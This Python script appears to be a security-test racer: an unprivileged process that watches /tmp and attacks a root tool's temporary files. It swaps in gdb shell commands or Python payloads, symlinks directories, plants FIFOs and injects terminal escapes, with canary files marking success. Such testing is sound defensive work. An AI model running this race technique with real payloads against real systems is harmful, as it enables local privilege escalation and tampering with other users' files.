"""A hostile local user racing pmt-top for its temporary files.

Runs as an unprivileged uid (the target's, or a third one) next to a root
pmt-top that attaches to that user's process. It knows nothing of pmt-top's
file layout: it watches /tmp (and the /tmp of every mount namespace it can
see through /proc/PID/root) and attacks every new entry there (and every
entry below it, two levels deep) with what its uid allows:

  swap     replace each file it can with a payload that fits its contents
           (gdb commands that `shell`/`python` a canary into a directory only
           root can write, or Python that does the same), by renaming its own
           file over it, by writing in place, or by creating the names first;
  dirswap  rename each directory away and put a symlink to a directory of its
           own (or a root-owned one given by the driver) in its place, so that
           root's clean-up works on the victim's files; also plant symlinks
           at the well-known names;
  fifo     put FIFOs at every name it can create or replace.

Strategies rotate per new entry (early: as soon as the entry appears; late:
once files appear in it). Every action is logged to stdout as one line
"ACT <action> <path> ok|<errno name>" for the driver's statistics, and
"SAW <path>" for every new entry.

Usage: racer.py MODE FIXTURE
  FIXTURE holds canary/ (root-only), ww/ (world-writable) and victim-root/.
Runs until killed.
"""

import ctypes
import errno
import os
import select
import stat
import sys
import time

MODE = sys.argv[1]
FIXTURE = sys.argv[2]
UID = os.getuid()
CANARY = os.path.join(FIXTURE, "canary")
WW = os.path.join(FIXTURE, "ww")
HOME = "/tmp/sec-racer-%d" % UID          # the attacker's own directory
VICTIM = os.path.join(HOME, "victim")
VICTIM_ROOT = os.path.join(FIXTURE, "victim-root")
VICTIM_NAMES = ("status", "status.tmp", "gdb.cmd", "bootstrap.py")
WELL_KNOWN = VICTIM_NAMES + ("cmd", "boot.py", "agent.py")

GDB_PAYLOAD = (
    "shell touch %(c)s/gdb-shell-$(id -u)\n"
    "shell touch %(w)s/gdb-shell-$(id -u)\n"
    "python import os; open('%(c)s/gdb-python-%%d' %% os.getuid(), 'w').close()\n"
    "python import os; open('%(w)s/gdb-python-%%d' %% os.getuid(), 'w').close()\n"
) % {"c": CANARY, "w": WW}
PY_PAYLOAD = (
    "import os\n"
    "for d in (%r, %r):\n"
    "    try:\n"
    "        open(os.path.join(d, 'python-%%d' %% os.getuid()), 'w').close()\n"
    "    except OSError:\n"
    "        pass\n"
) % (CANARY, WW)

STATUS_PAYLOAD = "error: \x1b]2;PWNED-TITLE\x07\x1b[2J\x1b[31mPWNED-STATUS\n"

counter = 0
seen = {}      # (path, dev, ino) -> strategy for every entry attacked
own = set()    # (dev, ino) of files this racer made


def log(*words):
    sys.stdout.write(" ".join(str(w) for w in words) + "\n")
    sys.stdout.flush()


logged = set()


def act(action, path, fn):
    """Runs FN; logs the outcome once per (action, path, outcome)."""
    try:
        r = fn()
        outcome = "ok"
    except OSError as e:
        r = None
        outcome = errno.errorcode.get(e.errno, str(e.errno))
    else:
        r = True if r is None else r
    if (action, path, outcome) not in logged:
        logged.add((action, path, outcome))
        log("ACT", action, path, outcome)
    return r


def remember(path):
    st = os.lstat(path)
    own.add((st.st_dev, st.st_ino))


def setup():
    os.makedirs(VICTIM, exist_ok=True)
    for n in VICTIM_NAMES:
        p = os.path.join(VICTIM, n)
        if not os.path.exists(p):
            with open(p, "w") as f:
                f.write("victim %s of uid %d\n" % (n, UID))
    log("READY", HOME)


def payload_for(path):
    """gdb commands or Python, whichever the file looks like it holds; for a
    status file, a message with terminal escapes (root prints it)."""
    if os.path.basename(path).startswith("status"):
        return STATUS_PAYLOAD
    head = b""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                head = os.read(fd, 4096)
        finally:
            os.close(fd)
    except OSError:
        pass
    if path.endswith(".py") or b"import " in head or b"def " in head:
        return PY_PAYLOAD
    return GDB_PAYLOAD


def mine(path):
    try:
        st = os.lstat(path)
    except OSError:
        return False
    return (st.st_dev, st.st_ino) in own


def make_file(path, text):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o666)
    try:
        os.write(fd, text.encode())
        st = os.fstat(fd)
        own.add((st.st_dev, st.st_ino))
    finally:
        os.close(fd)


def rename_over(directory, name, text):
    """Write TEXT to a fresh file in DIRECTORY and rename it over NAME."""
    tmp = os.path.join(directory, ".r%d-%d" % (UID, time.monotonic_ns()))
    try:
        make_file(tmp, text)
    except OSError:
        # Not writable: stage it in our own directory (same file system).
        tmp = os.path.join(HOME, ".r%d" % time.monotonic_ns())
        make_file(tmp, text)
    try:
        os.rename(tmp, os.path.join(directory, name))
    except OSError:
        try:
            os.unlink(tmp)
        except OSError:
            pass
        raise


def write_in_place(path, text):
    fd = os.open(path, os.O_WRONLY | os.O_TRUNC | os.O_NOFOLLOW | os.O_NONBLOCK)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)


def attack_swap(d, names, strat):
    """0: replace files as they appear (status files spared, so that the
    injection can get through); 1: take the names first, replace all."""
    for n in sorted(set(names) | set(WELL_KNOWN)):
        p = os.path.join(d, n)
        if mine(p) or (strat % 2 == 0 and n.startswith("status")):
            continue
        exists = os.path.lexists(p)
        if not exists:
            if strat % 2 == 1:  # early: take the names first
                text = payload_for(p)
                act("precreate", p, lambda: make_file(p, text))
            continue
        text = payload_for(p)
        if act("rename-over", p, lambda: rename_over(d, n, text)) is None:
            act("write-in-place", p, lambda: write_in_place(p, text))


def plant_fifo(d, n):
    p = os.path.join(d, n)
    try:
        st = os.lstat(p)
    except PermissionError:
        return
    except FileNotFoundError:
        st = None
    if st is None:
        act("mkfifo", p, lambda: (os.mkfifo(p, 0o666), remember(p))[1])
        return
    if stat.S_ISFIFO(st.st_mode):
        return
    tmp = os.path.join(d, ".f%d-%d" % (UID, time.monotonic_ns()))
    if act("mkfifo", tmp, lambda: (os.mkfifo(tmp, 0o666), remember(tmp))[1]):
        if act("fifo-over", p, lambda: os.rename(tmp, p)) is None:
            try:
                os.unlink(tmp)
            except OSError:
                pass


def attack_fifo(d, names, strat):
    """0: every name, at once; 1: the status names at once; 2: the status
    names once other files appeared."""
    if strat % 3 == 0:
        wanted = set(names) | set(WELL_KNOWN)
    elif strat % 3 == 1 or [n for n in names if not mine(os.path.join(d, n))]:
        wanted = {"status", "status.tmp"}
    else:
        wanted = set()
    for n in sorted(wanted):
        plant_fifo(d, n)


def swap_dir(root, name, victim):
    d = os.path.join(root, name)
    junk = os.path.join(root, "sec-junk-%d-%d" % (UID, time.monotonic_ns()))
    if act("rename-dir", d, lambda: os.rename(d, junk)):
        act("symlink-dir", d, lambda: (os.symlink(victim, d), remember(d))[1])


def attack_dirswap(root, name, names, strat, depth):
    d = os.path.join(root, name)
    victim = VICTIM if (strat // 2) % 2 == 0 else VICTIM_ROOT
    # Symlinks at the well-known names (root writing through one would
    # change the victim's files; root unlinking one only removes the link).
    for n in WELL_KNOWN:
        p = os.path.join(d, n)
        if not os.path.lexists(p):
            act("symlink-name", p, lambda: (os.symlink(os.path.join(victim, n), p), remember(p))[1])
    early = strat % 2 == 0
    if early or any(not mine(os.path.join(d, n)) for n in names):
        swap_dir(root, name, victim)


def listdir(d):
    try:
        return os.listdir(d)
    except OSError:
        return None


def attack_entry(root, name, depth=0):
    global counter
    p = os.path.join(root, name)
    try:
        st = os.lstat(p)
    except OSError:
        return
    key = (p, st.st_dev, st.st_ino)   # the path too: a new tmpfs reuses numbers
    if (st.st_dev, st.st_ino) in own or stat.S_ISLNK(st.st_mode):
        return
    if key not in seen:
        seen[key] = counter
        counter += 1
        log("SAW", p, "uid=%d" % st.st_uid, "mode=%o" % stat.S_IMODE(st.st_mode), "strat=%d" % seen[key])
    if stat.S_ISDIR(st.st_mode):
        watch(p)  # retried: a directory may become readable later
    strat = seen[key]
    if not stat.S_ISDIR(st.st_mode):
        # A file straight in /tmp: take it over where allowed.
        if MODE == "swap" and depth > 0:
            return
        if MODE == "swap":
            text = payload_for(p)
            if act("rename-over", p, lambda: rename_over(root, name, text)) is None:
                act("write-in-place", p, lambda: write_in_place(p, text))
        return
    names = listdir(p)
    sub = [n for n in (names or []) if not n.startswith(".r") and not n.startswith(".f")]
    files, dirs = [], []
    for n in sub:
        try:
            s2 = os.lstat(os.path.join(p, n))
        except OSError:
            continue
        (dirs if stat.S_ISDIR(s2.st_mode) else files).append(n)
    if MODE == "swap":
        attack_swap(p, files, strat)
    elif MODE == "fifo":
        attack_fifo(p, files, strat)
    elif MODE == "dirswap":
        attack_dirswap(root, name, files, strat, depth)
    if depth < 2:
        for n in dirs:
            attack_entry(p, n, depth + 1)


# --- inotify, so the racer reacts within microseconds -----------------------

libc = ctypes.CDLL(None, use_errno=True)
IN_MASK = 0x100 | 0x80 | 0x8 | 0x2 | 0x200 | 0x40  # CREATE MOVED_TO CLOSE_WRITE MODIFY DELETE MOVED_FROM
ino_fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
watched = set()


def watch(path):
    if ino_fd < 0 or path in watched:
        return
    if libc.inotify_add_watch(ino_fd, path.encode(), IN_MASK) >= 0:
        watched.add(path)


def tmp_roots():
    """/tmp and the /tmp of other mount namespaces visible through /proc."""
    roots = {"/tmp": os.stat("/tmp")}
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        r = "/proc/%s/root/tmp" % pid
        try:
            st = os.stat(r)
        except OSError:
            continue
        if all((st.st_dev, st.st_ino) != (s.st_dev, s.st_ino) for s in roots.values()):
            roots[r] = st
    return list(roots)


def main():
    setup()
    roots = tmp_roots()
    for r in roots:
        watch(r)
    baseline = {(r, n) for r in roots for n in (listdir(r) or [])}
    next_roots = time.monotonic() + 0.02
    while True:
        for r in roots:
            for n in listdir(r) or []:
                if n.startswith("sec-") or (r, n) in baseline:
                    continue
                try:
                    attack_entry(r, n)
                except OSError as e:  # a race lost: try again next pass
                    log("ERR", os.path.join(r, n), e)
        if time.monotonic() > next_roots:
            for r in tmp_roots():
                if r not in roots:
                    roots.append(r)
                    watch(r)
            next_roots = time.monotonic() + 0.02
        if ino_fd >= 0:
            ready, _, _ = select.select([ino_fd], [], [], 0.002)
            if ready:
                try:
                    os.read(ino_fd, 65536)
                except BlockingIOError:
                    pass


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        pass
